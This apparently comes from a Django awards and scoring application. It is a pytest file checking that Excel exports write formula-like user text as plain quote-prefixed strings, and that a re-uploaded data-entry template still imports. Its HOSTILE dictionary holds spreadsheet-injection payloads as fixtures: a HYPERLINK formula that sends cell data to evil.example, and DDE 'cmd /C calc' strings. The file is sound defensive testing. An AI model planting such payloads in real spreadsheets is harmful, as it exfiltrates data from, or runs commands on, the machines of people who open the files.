"""Formula injection: text typed by users (a name, a reason, a note) that starts with =, +, -, @, tab or CR is written
as text in every openpyxl export — never a formula — and a re-uploaded data-entry template holding it still imports."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from awards.decision_exports import decision_list_xlsx
from awards.exports import nominations_xlsx
from awards.models import Nomination
from core.xlsx_cells import is_formula_like
from scoring.excel import build_template, parse_readings
from scoring.exports import standings_workbook

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}


def _assert_text_only(content: bytes, expected: set[str]) -> None:
    """No cell is a formula; every formula-like text is a quote-prefixed string; the hostile texts are all there."""
    workbook = load_workbook(io.BytesIO(content))
    seen = set()
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    seen.update(text for text in expected if text in cell.value)
    assert seen == expected


@pytest.fixture
def hostile(world_db):
    side = world_db.a
    nomination = side.nomination
    nomination.name = HOSTILE["formula"]
    nomination.position = HOSTILE["plus"]
    nomination.unit_name = HOSTILE["minus"]
    nomination.reject_reason = HOSTILE["at"]
    nomination.reason = HOSTILE["tab"]
    nomination.achievement = HOSTILE["cr"]
    nomination.save()
    accepted = side.accepted
    Nomination.objects.filter(pk=accepted.pk).update(
        name=HOSTILE["formula"], unit_name=HOSTILE["minus"], achievement=HOSTILE["at"]
    )
    side.standing.name = HOSTILE["formula"]
    side.standing.save()
    side.participant.__class__.objects.filter(pk=side.participant.pk).update(name=HOSTILE["plus"])
    side.reading.note = HOSTILE["formula"]
    side.reading.save()
    return world_db


def test_the_nominations_and_home_affairs_exports_write_formula_like_text_as_text(hostile):
    nominations = Nomination.objects.filter(pk=hostile.a.nomination.pk)
    _assert_text_only(nominations_xlsx(nominations), set(HOSTILE.values()))


def test_the_home_affairs_export_through_the_view(client, hostile):
    client.force_login(hostile.users["noi_vu"])
    response = client.get(reverse("awards:home_affairs_export"))
    assert response.status_code == 200
    _assert_text_only(response.content, {HOSTILE["formula"], HOSTILE["minus"]})


def test_the_decision_list_export_writes_formula_like_text_as_text(hostile):
    hostile.a.decision.refresh_from_db()
    _assert_text_only(decision_list_xlsx(hostile.a.decision), {HOSTILE["formula"], HOSTILE["minus"], HOSTILE["at"]})


def test_the_standings_export_writes_formula_like_text_as_text(hostile):
    handle = standings_workbook(period=hostile.a.period, user=hostile.users["noi_vu"])
    _assert_text_only(handle.read(), {HOSTILE["formula"]})


def test_the_data_entry_template_writes_names_and_notes_as_text_and_a_reupload_still_imports(hostile):
    user, period = hostile.users["nhap_lieu"], hostile.a.period
    content = build_template(user=user, period=period)
    _assert_text_only(content, {HOSTILE["plus"], HOSTILE["formula"]})
    result = parse_readings(user=user, period=period, source=io.BytesIO(content))
    assert not result.errors, [issue.message for issue in result.errors]
    assert result.count_unchanged >= 1 and not result.changes
